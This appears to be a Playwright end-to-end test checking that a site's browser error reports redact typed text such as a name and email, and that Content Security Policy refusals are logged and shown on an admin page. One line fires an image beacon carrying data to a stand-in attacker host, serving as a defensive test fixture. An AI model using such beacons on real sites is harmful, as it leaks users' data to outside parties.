import { sql, test } from '../admin-support.ts';
import { openPage, interactive } from '../site.ts';
import { expect } from '../support.ts';

test('an error and a refused policy of a visitor come home, without what was typed', async ({
  browser,
  page,
  violations,
}) => {
  const told = async () =>
    sql`select kind, message, page, browser, frames, occurrences from client_errors order by kind`;
  await sql`delete from client_errors`;

  const visitor = await openPage(browser, '/fr/about', { width: 360 });
  await interactive(visitor);
  await visitor.route('**/assets/broken-AbCd1234.js', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      body: `function breaks() { throw new TypeError('nobody is called "Ada" ada@example.com') }
        for (let i = 0; i < 3; i += 1) setTimeout(breaks);`,
    }),
  );
  await visitor.addScriptTag({ url: '/assets/broken-AbCd1234.js' });
  await visitor.evaluate(() => {
    new Image().src = 'https://evil.example/ada.png?ada';
  });
  await expect.poll(told, { timeout: 20_000 }).toMatchObject([
    {
      kind: 'error',
      message: 'TypeError: nobody is called [text]',
      page: '/fr/about',
      browser: expect.stringMatching(/^Chrome \d+$/),
      frames: [expect.stringMatching(/^assets\/broken-AbCd1234\.js:1:\d+$/)],
      occurrences: 1,
    },
    { kind: 'policy', message: 'img-src refuses evil.example', page: '/fr/about' },
  ]);
  expect(violations.splice(0)).toEqual([expect.stringContaining('https://evil.example')]);
  await visitor.context().close();

  await page.goto('/admin');
  await page.getByRole('link', { name: '2 errors in browsers' }).click();
  const entry = page.getByRole('listitem').filter({ hasText: 'nobody is called' }).first();
  await expect(entry).toContainText(/Uncaught error\/fr\/aboutChrome \d+/);
  await expect(page.getByText('img-src refuses evil.example')).toBeVisible();
  await page.getByLabel('Build').selectOption({ index: 1 });
  await entry.getByRole('button', { name: /^Done/ }).click();
  await expect.poll(told).toMatchObject([{ kind: 'policy' }]);
  await expect(entry).toHaveCount(0);
});
